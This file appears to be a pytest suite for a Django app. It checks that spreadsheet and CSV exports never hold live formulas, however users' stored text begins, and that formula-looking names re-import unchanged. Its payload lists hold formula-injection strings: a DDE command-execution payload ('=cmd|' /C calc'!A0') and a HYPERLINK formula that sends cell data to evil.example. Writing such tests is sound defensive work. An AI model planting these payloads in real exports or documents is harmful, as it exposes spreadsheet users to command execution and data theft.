"""No workbook the app hands out holds a formula (issue 14): every text field users type is given
a formula-looking start ("=HYPERLINK(…)", "=cmd|' /C calc'!A0", "+", "-", "@", a tab or a
carriage return before "=") across the demo district; a crawl as the coordinator opens every
download; each xlsx is read with openpyxl: no cell is a formula, and a cell that holds such a text
holds it exactly as stored. Each CSV beside an xlsx (issue 18) is read with the csv module: no
field starts as a formula would, and one holding such a text holds it behind an apostrophe. The
organisation export and the task list still import back as "nothing changed" when names look
like formulas."""

import csv
import io
import re

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import IntegrityError, models, transaction
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.test import Client
from django.urls import resolve
from openpyxl import Workbook, load_workbook

from shigan.core.crawl import DOWNLOADS, crawl
from shigan.core.csv_export import BOM
from shigan.core.xlsx import formula_like
from shigan.core.xlsx.layout import workbook_bytes
from shigan.demo.district import load_demo
from shigan.orgs.models import Person, Unit
from shigan.orgs.sheet import InitialPassword, sheet_workbook
from shigan.orgs.xlsx import org_import_preview, org_workbook
from shigan.tasks.models import Milestone, Task, TaskCategory
from shigan.tasks.xlsx import import_task_list, task_list_workbook

XLSX = DOWNLOADS["xlsx"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0 ",
    "-2+3+cmd|' /C calc'!A0 ",
    "@SUM(1+1)*cmd|' /C calc'!A0 ",
    "\t=1+1 ",
    "\r=1+1 ",
]
SHORT = "=1+"  # for short fields (codes, phone numbers)
# Every view answering an xlsx, by URL name; the crawl must reach each one (the initial password
# sheet is a POST answered once, tested through the function it calls).
EXPORTS = {
    "dashboards:battle_map_xlsx",
    "grassroots:concern_export",
    "grassroots:concern_template",
    "indicators:template_targets",
    "indicators:template_actuals",
    "indicators:export_indicator_table",
    "indicators:export_key_projects",
    "orgs:org_template",
    "orgs:org_example",
    "orgs:org_export",
    "tasks:task_list_template",
    "tasks:task_list_example",
    "tasks:task_list_export",
    "timebank:account_export",
    "timebank:service_import_template",
}
# Every view answering a CSV (each beside the xlsx of a table), all of records.
CSV_EXPORTS = {
    "dashboards:battle_map_csv",
    "grassroots:concern_export_csv",
    "indicators:export_indicator_table_csv",
    "indicators:export_key_projects_csv",
    "orgs:org_export_csv",
    "tasks:task_list_export_csv",
    "timebank:account_export_csv",
}
# Exports of records (not blank templates): each must show some of the hostile texts.
OF_RECORDS = {
    "dashboards:battle_map_xlsx",
    "grassroots:concern_export",
    "indicators:template_actuals",
    "indicators:export_indicator_table",
    "indicators:export_key_projects",
    "orgs:org_export",
    "tasks:task_list_export",
    "timebank:account_export",
}
OOXML_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def user_text_fields():
    """(model, field) for every free-text column of the app's own models."""
    for model in apps.get_models():
        if not model.__module__.startswith("shigan.") or model._meta.proxy:
            continue
        for field in model._meta.concrete_fields:
            if (
                isinstance(field, models.CharField | models.TextField)
                and not isinstance(field, models.SlugField | models.EmailField | models.URLField)
                and not field.choices
                and not field.primary_key
                and "password" not in field.name
            ):
                yield model, field


def make_hostile() -> set[str]:
    """Prefixes every non-blank free-text value with a payload; returns the values stored."""
    stored = set()
    for i, (model, field) in enumerate(user_text_fields()):
        payload = PAYLOADS[i % len(PAYLOADS)]
        if field.max_length and len(payload) + 12 > field.max_length:
            payload = SHORT
        value = Concat(Value(payload), F(field.name), output_field=field)
        if field.max_length:
            value = Left(value, field.max_length)
        rows = model._default_manager.exclude(**{field.name: ""}).exclude(
            **{f"{field.name}__isnull": True}
        )
        try:
            with transaction.atomic():
                rows.update(**{field.name: value})
        except IntegrityError:
            continue  # a unique column whose truncated values would collide
        stored.update(rows.values_list(field.name, flat=True))
    return stored


class RecordingClient(Client):
    """Keeps the body of every xlsx and CSV answered, by the URL asked."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.workbooks: dict[str, bytes] = {}
        self.csvs: dict[str, bytes] = {}

    def get(self, path, *args, **kwargs):
        response = super().get(path, *args, **kwargs)
        if response.get("Content-Type", "").startswith(XLSX):
            self.workbooks[path] = response.content
        if response.get("Content-Type", "").startswith(DOWNLOADS["csv"]):
            self.csvs[path] = response.content
        return response


def unescaped(text: str) -> str:
    return OOXML_ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), text)


def formulas_and_hostile(data: bytes) -> tuple[list[str], list[str]]:
    """The coordinates of formula cells, and every text cell starting as a payload does."""
    formulas, hostile = [], []
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{ws.title}!{cell.coordinate} {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    hostile.append(unescaped(cell.value))
                elif isinstance(cell.value, str) and cell.value[:2] in ("\t=", "\r="):
                    hostile.append(unescaped(cell.value))
    return formulas, hostile


@pytest.mark.django_db
def test_no_export_holds_a_formula_whatever_users_typed(monkeypatch):
    monkeypatch.setenv("SHIGAN_TODAY", "2023-07-31")
    load_demo()
    stored = make_hostile()
    assert len(stored) > 500
    client = RecordingClient()
    client.force_login(get_user_model().objects.get(username="zhuanban"))
    crawl(client, account="zhuanban", max_pages=800, per_route=3, per_pattern=1)

    reached = {}
    for url, data in client.workbooks.items():
        reached.setdefault(resolve(url.split("?")[0]).view_name, []).append((url, data))
    assert set(reached) == EXPORTS, "an xlsx view not listed here, or one not reached"
    for name, files in reached.items():
        exact = 0
        for url, data in files:
            formulas, hostile = formulas_and_hostile(data)
            assert formulas == [], f"{url}: {formulas[:5]}"
            # Each starts with its payload unchanged (a caption may follow a stored value with
            # more text, a phone number is masked); a record's own text reads exactly as stored.
            changed = [t for t in hostile if not t.startswith((*PAYLOADS, SHORT))]
            assert changed == [], f"{url}: text not as stored: {changed[:5]}"
            exact += sum(t in stored for t in hostile)
        assert exact or name not in OF_RECORDS, f"{name} shows no hostile text as stored"
    csv_files = {}
    for url, data in client.csvs.items():
        csv_files.setdefault(resolve(url.split("?")[0]).view_name, []).append((url, data))
    assert set(csv_files) == CSV_EXPORTS, "a CSV view not listed here, or one not reached"
    for name, files in csv_files.items():
        exact = 0
        for url, data in files:
            live, hostile = formulas_and_hostile_csv(data)
            assert live == [], f"{url}: fields a spreadsheet would run: {live[:5]}"
            changed = [t for t in hostile if not t.startswith((*PAYLOADS, SHORT))]
            assert changed == [], f"{url}: text not as stored: {changed[:5]}"
            exact += sum(t in stored for t in hostile)
        assert exact, f"{name} shows no hostile text as stored"


def formulas_and_hostile_csv(data: bytes) -> tuple[list[str], list[str]]:
    """The fields that would start a formula (a negative number is a number), and (apostrophe
    removed) every neutralised one."""
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    fields = [f for row in csv.reader(io.StringIO(text[1:], newline="")) for f in row]
    live = [f for f in fields if formula_like(f) and not NUMBER.fullmatch(f)]
    hostile = [f[1:] for f in fields if f.startswith("'") and formula_like(f[1:])]
    return live, hostile


def test_the_initial_password_sheet_holds_names_as_text():
    rows = [InitialPassword(name=p, unit=p, post=p, username="u1", password="x") for p in PAYLOADS]
    formulas, hostile = formulas_and_hostile(sheet_workbook(rows, issued="2023-07-31"))
    assert formulas == [] and sorted(hostile) == sorted(PAYLOADS * 3)


def test_a_stray_formula_is_written_as_text_by_the_one_file_writer():
    wb = Workbook()
    wb.active["A1"] = "=cmd|' /C calc'!A0"  # not through core.xlsx.put
    assert wb.active["A1"].data_type == "f"
    cell = load_workbook(io.BytesIO(workbook_bytes(wb))).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "=cmd|' /C calc'!A0")


# Without the list separators of core.xlsx.names (、 , ; / line breaks): the oversight sheet
# lists a leader's units in one cell.
NAMES = ['=HYPERLINK("evil")&"点此"', "=cmd|' -C calc'!A0", "+交通局", "@专班"]


@pytest.mark.django_db
def test_formula_looking_names_import_back_unchanged():
    demo = load_demo()
    # The district's units and people (not the county's above it, nor its root's row).
    root = demo.campaign.organiser
    units = Unit.objects.filter(district_id=root.district_id).exclude(pk=root.district_id)
    for i, unit in enumerate(units.order_by("pk")[:4]):
        Unit.objects.filter(pk=unit.pk).update(name=NAMES[i] + unit.name)
    people = Person.objects.filter(unit__district_id=root.district_id)
    for i, person in enumerate(people.order_by("pk")[:4]):
        Person.objects.filter(pk=person.pk).update(name=NAMES[i] + person.name)
    # The district's campaign's: the county's campaign (demo.county) is not in its task list.
    in_campaign = {Task: "campaign", Milestone: "task__campaign", TaskCategory: "campaign"}
    for model, field in ((Task, "title"), (Milestone, "title"), (TaskCategory, "name")):
        rows = model.objects.filter(**{in_campaign[model]: demo.campaign}).order_by("pk")
        for i, pk in enumerate(rows.values_list("pk", flat=True)[:4]):
            model.objects.filter(pk=pk).update(**{field: Concat(Value(NAMES[i]), F(field))})

    district = Unit.objects.get(pk=demo.campaign.organiser.pk)
    org = workbook_bytes(org_workbook(district))
    assert len(formulas_and_hostile(org)[1]) >= 8  # four units, four people at least
    preview = org_import_preview(path_or_file=io.BytesIO(org), by=None)
    assert preview.ok, preview.errors
    assert not preview.plan.changes_anything and preview.plan.removals == []

    tasks = workbook_bytes(task_list_workbook(demo.campaign))
    assert len(formulas_and_hostile(tasks)[1]) >= 8  # the demo's three tasks, their categories…
    result = import_task_list(path_or_file=io.BytesIO(tasks), by=None, campaign=demo.campaign)
    assert result.ok, result.errors
    assert not result.changed and not result.outcome.missing_tasks
